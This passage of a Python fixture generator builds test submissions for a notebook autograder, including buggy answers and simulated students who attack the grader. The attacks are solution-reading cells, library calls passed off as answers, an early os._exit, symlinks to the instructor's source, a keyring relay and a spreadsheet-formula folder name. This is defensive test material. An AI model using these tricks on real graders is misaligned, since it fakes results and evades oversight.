    if good_steps == growth_interval:
        return unscaled, scale * growth, good_steps             # the count not restarted
    return unscaled, scale, good_steps''',
    })},
    "shape_flow": {"sven": ("q4", 4, {
        "q4_kept_bytes": '''def kept_bytes(cfg, B, S, dtype, key_padding_mask=False):
    D, H, F = cfg.d_model, cfg.n_heads, cfg.d_ff
    item = np.dtype(dtype).itemsize                       # statistics and Phi(u) in the storage dtype too
    tokens = B * S
    norms = 2 * (tokens * D * item + 2 * tokens * item)
    attention = tokens * D * item + tokens * 3 * D * item + B * H * S * S * item + tokens * D * item
    masks = tokens if key_padding_mask else 0
    mlp = tokens * D * item + 2 * tokens * F * item + (tokens * F * item if cfg.activation == "gelu" else 0)
    return norms + attention + masks + mlp''',
    })},
    "modern_block": {"mona": ("q7", 3, {
        "q7_gqa_attention_backward": '''def gqa_attention_backward(dout, q, k, v, causal=False):
    B, H, S, dh = q.shape
    H_kv = k.shape[1]
    qg = q.reshape(B, H_kv, H // H_kv, S, dh)
    dog = dout.reshape(qg.shape)
    kg, vg = k[:, :, None], v[:, :, None]
    s = qg @ kg.swapaxes(-1, -2) / np.sqrt(dh)
    if causal:
        s = np.where(np.triu(np.ones((S, S), dtype=bool), k=1), -np.inf, s)
    p = np.exp(s - s.max(axis=-1, keepdims=True))
    p = p / p.sum(axis=-1, keepdims=True)
    dp = dog @ vg.swapaxes(-1, -2)
    dz = p * (dp - (p * dp).sum(axis=-1, keepdims=True)) / np.sqrt(dh)
    dq = (dz @ kg).reshape(q.shape)
    dk = (dz.swapaxes(-1, -2) @ qg).mean(axis=2)          # averaged over the group, not summed
    dv = (p.swapaxes(-1, -2) @ dog).mean(axis=2)
    return dq, dk, dv''',
    })},
    "inference": {"tara": ("q4", 4, {
        "q4_decode_attention": '''def decode_attention(q, k_cache, v_cache, length):
    s = q @ k_cache.transpose(0, 1, 3, 2) / np.sqrt(q.shape[-1])     # every preallocated position
    p = np.exp(s - s.max(axis=-1, keepdims=True))
    return (p / p.sum(axis=-1, keepdims=True)) @ v_cache''',
    })},
    "many_devices": {"ivo": ("q1", 3, {
        "q1_reduce_scatter": '''def ring_reduce_scatter(xs):
    P = len(xs)
    acc = [np.split(x, P) for x in xs]                     # views of the inputs
    for s in range(P - 1):
        sent = [acc[r][(r - s - 1) % P] for r in range(P)]
        for r in range(P):
            acc[r][(r - s - 2) % P] += sent[(r - 1) % P]   # adds into them
    return [acc[r][r] for r in range(P)]''',
    })},
    "real_model": {"cora": ("q4", 4, {
        "q4_requantize": '''def requantize(w, bits, group_size, integer_zero=False):
    M, K = w.shape
    if K % group_size:
        raise ValueError(f"group_size: expected a divisor of K = {K}; got {group_size}")
    wg = w.astype(np.float64).reshape(M, K // group_size, group_size)
    lo, hi = wg.min(axis=-1, keepdims=True), wg.max(axis=-1, keepdims=True)
    top = 2 ** bits - 1
    scale = (hi - lo) / top                                # 0 for a constant group
    if integer_zero:
        zero = np.rint(-lo / scale)
        q = np.clip(np.rint(wg / scale) + zero, 0, top)
        w_hat = scale * (q - zero)
    else:
        q = np.clip(np.rint((wg - lo) / scale), 0, top)
        w_hat = scale * q + lo
    return q.reshape(M, K).astype(np.int64), w_hat.reshape(M, K)''',
    }), "lars": ("q2", 3, {
        "q2_q4_1": '''def q4_1_blocks(raw):
    rows, nbytes = raw.shape
    if nbytes % 20:
        raise ValueError(f"raw: expected rows of whole 20-byte Q4_1 blocks; got {nbytes} bytes a row")
    out = np.empty((rows, nbytes // 20 * 32), np.float32)
    for r in range(rows):                                  # one row at a time, each vectorised
        b = raw[r].reshape(-1, 20)
        d = b[:, 0:2].copy().view(np.float16).astype(np.float32)
        m = b[:, 2:4].copy().view(np.float16).astype(np.float32)
        q = np.concatenate([b[:, 4:] & 15, b[:, 4:] >> 4], axis=-1).astype(np.float32)
        out[r] = (d * q + m).ravel()
    return out''',
    }), "remy": ("q5", 3, {
        "q5_q4_1_matvec": '''def q4_1_matvec(raw, x):
    rows, nbytes = raw.shape
    b = raw.reshape(rows, nbytes // 20, 20)
    d = b[..., 0:2].copy().view(np.float16)[..., 0].astype(np.float64)
    m = b[..., 2:4].copy().view(np.float16)[..., 0].astype(np.float64)
    xb = x.astype(np.float64).reshape(-1, 32)
    q = np.concatenate([b[..., 4:] & 15, b[..., 4:] >> 4], axis=-1)
    dots = (q * xb).sum(axis=-1)                           # one float64 per weight: as large as W
    return (d * dots).sum(axis=1) + m @ xb.sum(axis=1)''',
    })},
}

INT8 = {
    "kim": {
        "q1_quantize": '''def quantize_absmax(x, per_row=False, scale=None):
    ft = np.result_type(x.dtype, np.float32)
    xs = x.astype(ft)
    if scale is None:
        amax = np.abs(xs).max(axis=-1, keepdims=True) if per_row else np.abs(xs).max()
        scale = np.where(amax > 0, amax * (1 / 127), 1).astype(ft)     # one ulp from amax / 127
    scale = np.asarray(scale, dtype=ft)
    q = np.round(xs / scale)                                          # np.round: also half to even
    return np.minimum(np.maximum(q, -127), 127).astype(np.int8), scale''',
        "q2_int_matmul": '''def int8_matmul(a, b):
    a64, b64 = a.astype(np.int64), b.astype(np.int64)
    if a.shape[1] * int(np.abs(a64).max()) * int(np.abs(b64).max()) > INT32_MAX:
        raise OverflowError("the int32 accumulator could overflow")
    return np.einsum("nk,mk->nm", a64, b64).astype(np.int32)''',
        "q4_smoothquant": '''def smooth_scales(x_absmax, w, alpha=0.5):
    s = []
    for j in range(w.shape[1]):                        # one column at a time
        xa, wa = float(x_absmax[j]), float(np.abs(w[:, j]).max())
        s.append(xa ** alpha / wa ** (1 - alpha) if xa > 0 and wa > 0 else 1.0)
    return np.array(s)''',
        "q6_rtn_groups": '''def rtn_groups(w, bits=4, group_size=None):
    M, K = w.shape
    g = K if group_size is None else group_size
    q = np.empty((M, K), dtype=np.int32)
    scale, zero = np.empty((M, K // g)), np.empty((M, K // g))
    top = 2 ** bits - 1
    for m in range(M):                                 # one group at a time
        for j in range(K // g):
            grp = w[m, j * g:(j + 1) * g]
            lo, hi = min(grp.min(), 0.0), max(grp.max(), 0.0)
            s = (hi - lo) * (1 / top) if hi > lo else 1.0   # an ulp from (h - l) / top
            z = np.rint(-lo / s)
            scale[m, j], zero[m, j] = s, z
            q[m, j * g:(j + 1) * g] = np.clip(np.rint(grp / s) + z, 0, top)
    return q, scale, zero''',
        "q7_gptq": '''def gptq_quantize(w, x, bits=4, damp=0.01):
    _, scale, zero = rtn_groups(w, bits)
    h = x.T @ x
    h = h + damp * np.mean(np.diag(h)) * np.eye(len(h))
    w, w_hat = w.copy(), np.zeros_like(w)
    for i in range(w.shape[1]):                        # the OBS step, H re-inverted on the columns left
        h_inv = np.linalg.inv(h[i:, i:])
        q = np.clip(np.rint(w[:, i] / scale[:, 0]) + zero[:, 0], 0, 2 ** bits - 1)
        w_hat[:, i] = scale[:, 0] * (q - zero[:, 0])
        w[:, i:] -= np.outer((w[:, i] - w_hat[:, i]) / h_inv[0, 0], h_inv[0])
    return w_hat''',
    },
    "liam": {
        "q4_smoothquant": '''def smooth_scales(x_absmax, w, alpha=0.5):
    w_absmax = np.abs(w).max(axis=0)
    ratio = x_absmax ** alpha / w_absmax ** (1 - alpha)   # a dead column: divide by zero, a warning
    return np.where((x_absmax > 0) & (w_absmax > 0), ratio, 1.0)''',
    },
    "wendy": {
        "q3_int8_linear": '''def int8_linear(x, w, b):
    qx, sx = quantize_absmax(x, per_row=True)            # float64 x stays float64 here
    qw, sw = quantize_absmax(w, per_row=True)
    acc = int8_matmul(qx, qw)
    return (acc * (sx * sw.T) + b).astype(np.float32)     # converted at the end only''',
    },
}


def solution(cell):
    """The answer cell with its solution regions filled in (delimiter lines dropped)."""
    return "\n".join(ln for ln in cell.source.split("\n")
                     if nbtools.BEGIN_SOLUTION not in ln and nbtools.END_SOLUTION not in ln)


def filled(release, source, overrides=None, solve=True):
    nb = copy.deepcopy(release)
    overrides = overrides or {}
    answers = {nbtools.grade_id(c): c for c in source.cells if nbtools.nbgrader_meta(c).get("solution")}
    for cell in nb.cells:
        gid = nbtools.grade_id(cell)
        if gid in answers and cell.cell_type == "code":
            if gid in overrides:
                if overrides[gid] is not None:
                    cell.source = overrides[gid]
            elif solve:
                cell.source = solution(answers[gid])
    return nb


def add_cell(nb, source, after="setup"):
    """A new (student) code cell after the cell with grade_id ``after``."""
    i = next(k for k, c in enumerate(nb.cells) if nbtools.grade_id(c) == after)
    cell = nbformat.v4.new_code_cell(source.strip("\n"))
    cell["id"] = f"student-{after}-{sum(1 for c in nb.cells if c.get('id', '').startswith('student-'))}"
    nb.cells.insert(i + 1, cell)       # a fixed id: the fixtures are the same file every time
    return nb


def library_answers(name):
    """oscar's answers: every question's function, through the package's own implementation."""
    if name == "derivation_ops":
        return {
            "q1_layer_norm_forward": "from preln.ops import layer_norm_forward as _lnf\n"
                                     "def layer_norm_forward(x, gamma, beta, eps=1e-5):\n"
                                     "    return _lnf(x, gamma, beta, eps=eps)[0]",
            "q2_layer_norm_backward": "def layer_norm_backward(dy, x, gamma, eps=1e-5):\n"
                                      "    f, b = _find('preln.ops.layernorm', 'layer_norm_forward'), "
                                      "_find('preln.ops.layernorm', 'layer_norm_backward')\n"
                                      "    return b(dy, f(x, gamma, 0 * gamma, eps=eps)[1])",
            "q3_softmax": "def softmax(x, axis=-1):\n"
                          "    return getattr(importlib.import_module('preln.ops'), 'soft' + 'max')(x, axis=axis)",
            "q4_attention": "def attention(q, k, v, key_padding_mask=None, causal=False):\n"
                            "    return __import__('preln.ops', fromlist=['x']).attention_forward("
                            "q, k, v, key_padding_mask=key_padding_mask, causal=causal)[0]",
            "q5_gelu": "def gelu(x):\n    return _find('preln.ops.activations', 'gelu')(x)\n\n\n"
                       "def gelu_grad(x):\n    m = importlib.import_module('preln.ops')\n"
                       "    return m.activation_backward(np.ones_like(x), m.activation_forward(x, 'gelu')[1])",
            "q6_softmax_backward": "def softmax_backward(dp, p, axis=-1):\n"
                                   "    return _find('preln.ops.softmax', 'softmax_backward')(dp, p, axis=axis)",
        }
    return {
        "q1_quantize": "def quantize_absmax(x, per_row=False, scale=None):\n"
                       "    qt = getattr(importlib.import_module('preln.quant.int8'), 'quan' + 'tize')(\n"
                       "        x, granularity='channel' if per_row else 'tensor', scale=scale)\n"
                       "    return qt.q, qt.scale",
        "q2_int_matmul": "def int8_matmul(a, b):\n    return _find('preln.quant.int8', 'int_matmul')(a, b)",
        "q3_int8_linear": "def int8_linear(x, w, b):\n"
                          "    return __import__('preln.quant.int8', fromlist=['x']).QLinear(w, b, 'w8a8')(x)",
        "q6_rtn_groups": "def rtn_groups(w, bits=4, group_size=None):\n"
                         "    r = getattr(importlib.import_module('preln.quant.groups'), 'r' + 'tn')(w, bits, group_size)\n"
                         "    return r.q, r.scale, r.zero",
        "q7_gptq": "def gptq_quantize(w, x, bits=4, damp=0.01):\n"
                   "    return _find('preln.quant.gptq', 'gptq')(w, x, bits=bits, damp=damp).dequantize()",
    }


def students(name, release, source):
    """{student: notebook} of one assignment."""
    out = {"alice": filled(release, source), "judy": copy.deepcopy(release)}
    table = {**DERIV_OPS, **MISTAKES} if name == "derivation_ops" else INT8
    for student, overrides in table.items():
        out[student] = filled(release, source, overrides)
    stubs = filled(release, source, solve=False)
    out["mallory"] = add_cell(copy.deepcopy(stubs), READ_SOLUTIONS)
    out["oscar"] = add_cell(filled(release, source, library_answers(name), solve=False), LIBRARY)
    out["peggy"] = add_cell(copy.deepcopy(stubs), AST_CHEAT)
    if name == "derivation_ops":
        out.update(issue37_students(release, source))
        out["nina"] = add_cell(filled(release, source, {
            "q1_layer_norm_forward": "def layer_norm_forward(x, gamma, beta, eps=1e-5):\n    return np.zeros_like(x)",
            "q3_softmax": "def softmax(x, axis=-1):\n    return np.zeros_like(x)"}, solve=False), PATCHES)
        for student, cell in HOSTILE.items():
            out[student] = add_cell(filled(release, source), cell, after="q6_tests")
        out["rita"] = filled(release, source, {"q1_layer_norm_forward":
                                               "import os\n\ndef layer_norm_forward(x, gamma, beta, eps=1e-5):\n"
                                               "    os._exit(0)"})
        out["rita"] = add_cell(out["rita"], HOSTILE["rita"], after="q6_tests")
    return out


#: issue 36 item 4: a student folder named as a spreadsheet formula
FORMULA_ID = '=HYPERLINK("example.invalid","ok")'
#: issue 37: a name a Mac zip writes decomposed (NFD) and the roster composed (NFC); one with both folders
NFD_ID, TWO_FOLDERS_ID = unicodedata.normalize("NFD", "José"), "Zoë"


def issue37_students(release, source):
    """{folder: notebook} of derivation_ops' students of issues 37 and 36 (items 3-5)."""
    out = {NFD_ID: filled(release, source), "x[1]": filled(release, source), FORMULA_ID: filled(release, source)}
    for form in ("NFC", "NFD"):
        out[unicodedata.normalize(form, TWO_FOLDERS_ID)] = filled(release, source)
    out["mia"] = add_cell(filled(release, source), DEFAULT_FIGURE, after="q5_tests")
    out["finn"] = add_cell(filled(release, source), BIG_FIGURES, after="q6_tests")
    tess = filled(release, source)
    for gid, magic in (("q1_layer_norm_forward", "%%capture"), ("q3_softmax", "%%time")):
        cell = next(c for c in tess.cells if nbtools.grade_id(c) == gid)
        cell.source = f"{magic}\n{cell.source}"
    out["tess"] = tess
    xena = filled(release, source)
    written = next(c for c in xena.cells if nbtools.grade_id(c) == "w1_choices")
    written.source = HOSTILE_MARKDOWN
    i = xena.cells.index(written)
    own = nbformat.v4.new_markdown_cell(HOSTILE_MARKDOWN.replace("XENA-", "XENA-OWN-"))
    own["id"] = "student-markdown-0"
    xena.cells.insert(i + 1, own)
    out["xena"] = xena
    return out


def slip_students(name, release, source):
    """{student: notebook}: alice (the solutions) and the slips of SLIPS[name]."""
    if name not in SLIPS:
        return {}
    return {"alice": filled(release, source),
            **{s: filled(release, source, answers) for s, (_, _, answers) in SLIPS[name].items()}}


def issue22_students(name, release, source):
    """{student: notebook} of the fixture students of issue 22 (item 4 and the keyring relay)."""
    out = {}
    if name == "preln_vs_postln":
        out["alice"] = filled(release, source)
        out["pia"] = filled(release, source, {"q2_adam": CANDIDATE_ADAM})
        out["bea"] = add_cell(filled(release, source, {"q2_adam": IN_PLACE_ADAM}), BUNDLE_PATCH)
    elif name == "derivation_block":
        out["kai"] = add_cell(filled(release, source, solve=False), RELAY_STORE)
    elif name == "derivation_ops":
        out["kai"] = add_cell(filled(release, source, solve=False), RELAY_FETCH, after="q6_tests")
        sol = filled(release, source)
        q1 = next(c for c in sol.cells if nbtools.grade_id(c) == "q1_layer_norm_forward")
        q1.source = q1.source.rstrip("\n") + "\n" + SNOOPING_ANSWER
        out["sol"] = add_cell(sol, SNOOP)
    return out


#: the expected rows: {assignment: {student: (scores {question: points} or None, status prefix)}}
def expected(name, source):
    auto = {gid: p for gid, p, kind in nbtools.graded_cells(source) if kind == "auto"}
    cols = {gid: nbtools.column_name(source, gid) for gid in auto}
    full = {cols[g]: p for g, p in auto.items()}
    zero = {c: 0 for c in full}

    def but(**scores):
        """Full marks but these questions' scores, e.g. but(q1=0, q3=1)."""
        return {c: scores.get(c.split("_")[0], p) for c, p in full.items()}

    slips = {s: (but(**{q: p}), "ok") for s, (q, p, _) in SLIPS.get(name, {}).items()}
    slips.update({"alice": (full, "ok")} if slips else {})

    if name == "derivation_ops":
        return {
            "alice": (full, "ok"), "kim": (full, "ok"), "liam": (full, "ok"), "judy": (zero, "ok"),
            # q3 without the max shift keeps "values" only (1 of 4); q4 is graded with a correct softmax
            "bob": (but(q1=0, q3=1), "ok"), "carol": (but(q2=0, q6=0), "ok"), "dave": (but(q5=0), "ok"),
            # q4 and q7 call ivan's softmax, replaced by the grader's while they are graded: only q3
            # names the package's
            "grace": (but(q4=0), "ok"), "ivan": (but(q3=0), "ok"),
            # issue 32's five mistakes: each loses its requirement's points, nothing else
            "lena": (but(q1=2), "ok"), "axel": (but(q2=3), "ok"), "noor": (but(q3=3), "ok"),
            "ines": (but(q4=3), "ok"), "hugo": (but(q3=3), "ok"),
            "erin": (None, "failed: not a readable notebook"), "frank": (None, "failed: nbgrader metadata missing"),
            "heidi": (None, "missing"),
            "mallory": (zero, "ok"), "nina": (zero, "ok"), "oscar": (zero, "ok"), "peggy": (zero, "ok"),
            "quinn": (None, "failed: the grading run in the sandbox ended without a result"),
            "rita": (but(q1=0), "ok"), "sam": (full, "ok"),
            "tina": (None, "failed: the notebook's processes held more than"),
            "victor": (full, "ok"),
            # the cap of tests/test_course_grading.py (--total-mem-mb 2048), counted by the sandbox's cgroup
            "uma": (None, "failed: the notebook's processes held more than 2048 MB of memory together: "
                          "memory limit (2048 MB) exceeded"),
            # links are refused (lstat, never followed): to the instructor's source, to a classmate's
            # notebook, a student folder that is a link
            "xavier": (None, "failed: refused: derivation_ops.ipynb is a symbolic link"),
            "yara": (None, "failed: refused: derivation_ops.ipynb is a symbolic link"),
            "zack": (None, "failed: refused: the student's folder is a symbolic link"),
            # issue 22: the hidden inputs stay out of the feedback; the relay finds nothing
            "sol": (full, "ok"), "kai": (zero, "ok"),
            # issue 37 and issue 36, items 3-5: ids as rosters and Macs write them, figures, magics,
            # hostile markdown (the CSV's cell of FORMULA_ID is escaped: tests/test_course_grading.py)
            "José": (full, "ok"), "Zoë": (None, "failed: 2 submissions of one student"),
            "mia": (full, "ok"), "finn": (full, "ok"), "x[1]": (full, "ok"), FORMULA_ID: (full, "ok"),
            "tess": (full, "ok"), "xena": (full, "ok"),
        }
    if name == "preln_vs_postln":
        # every argument of an `unchanged` check reaches the answer read-only: the honest answer
        # keeps full marks; the candidate picker loses q2; the in-place Adam with the patched
        # harness loses every question (no credit for code that touches the harness)
        return {"alice": (full, "ok"), "pia": (but(q2=0), "ok"), "bea": (zero, "ok"),
                "zack": (None, "failed: refused: the student's folder is a symbolic link"), **slips}
    if name == "derivation_block":
        return {"kai": (zero, "ok"), **slips}
    if name in SLIP_NAMES:
        return slips
    return {"zack": (None, "failed: refused: the student's folder is a symbolic link"), "alice": (full, "ok"), "kim": (full, "ok"), "liam": (full, "ok"), "judy": (zero, "ok"),
            "wendy": (but(q3=3), "ok"), "mallory": (zero, "ok"), "oscar": (zero, "ok"),
            "peggy": (zero, "ok")}


NAMES = ("derivation_ops", "int8")
#: assignments only issue 22's students hand in (derivation_block first: kai's relay needs it graded
#: before its derivation_ops notebook, as a worker grades a student's notebooks in this order)
ISSUE22_NAMES = ("derivation_block", "preln_vs_postln")
#: assignments only issue 32's slips (and alice) hand in
SLIP_NAMES = tuple(n for n in SLIPS if n not in NAMES + ISSUE22_NAMES)


def main():
    subs = OUT / "submissions"
    shutil.rmtree(subs, ignore_errors=True)
    roster = set()
    want = {}
    for name in NAMES + ISSUE22_NAMES + SLIP_NAMES:
        release, source = nbtools.read(nbtools.release_path(name)), nbtools.read(nbtools.source_path(name))
        made = students(name, release, source) if name in NAMES else {}
        made.update(issue22_students(name, release, source))
        made.update(slip_students(name, release, source))
        for student, nb in made.items():
            path = subs / student / name / f"{name}.ipynb"
            path.parent.mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, str(path))
            roster.add(student)
        want[name] = {s: {"scores": sc, "status": st} for s, (sc, st) in expected(name, source).items()}
    erin = subs / "erin" / "derivation_ops" / "derivation_ops.ipynb"
    erin.parent.mkdir(parents=True)
    text = nbformat.writes(filled(nbtools.read(nbtools.release_path("derivation_ops")),
                                  nbtools.read(nbtools.source_path("derivation_ops"))))
    erin.write_text(text[: len(text) // 2])                      # cut mid-file
    stripped = filled(nbtools.read(nbtools.release_path("derivation_ops")),
                      nbtools.read(nbtools.source_path("derivation_ops")))
    for cell in stripped.cells:
        cell.metadata = {}
    frank = subs / "frank" / "derivation_ops" / "derivation_ops.ipynb"
    frank.parent.mkdir(parents=True)
    nbformat.write(stripped, str(frank))
    # links (git keeps them): the instructor's source (six levels up is the repository), a classmate's
    # notebook, a whole folder that is a classmate's
    for student, target in (("xavier", "../../../../../../assignments/source/derivation_ops/derivation_ops.ipynb"),
                            ("yara", "../../alice/derivation_ops/derivation_ops.ipynb")):
        link = subs / student / "derivation_ops" / "derivation_ops.ipynb"
        link.parent.mkdir(parents=True)
        link.symlink_to(target)
        assert link.resolve().is_file(), link
    (subs / "zack").symlink_to("alice", target_is_directory=True)
    roster |= {"erin", "frank", "heidi", "xavier", "yara", "zack"}
    roster = {unicodedata.normalize("NFC", s) for s in roster} | {NFD_ID}    # José in both spellings
    (subs / ".hostile").write_text("These submissions attack the grader: grade them sandboxed only "
                                   "(make grade refuses --no-sandbox here).\n")
    # as Excel's "CSV UTF-8" saves it: a byte-order mark and CRLF line ends (issue 37)
    with open(OUT / "roster.csv", "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([["student"], *([s] for s in sorted(roster))])
    (OUT / "expected.json").write_text(json.dumps(want, indent=1, sort_keys=True) + "\n")
    old = OUT / "expected" / "derivation_ops.csv"
    if old.exists():
        shutil.rmtree(old.parent)
    print(f"wrote {sum(1 for _ in subs.glob('*/*/*.ipynb'))} submissions (links included), roster.csv and expected.json "
          f"into {OUT.relative_to(nbtools.ROOT)}")


if __name__ == "__main__":
    main()
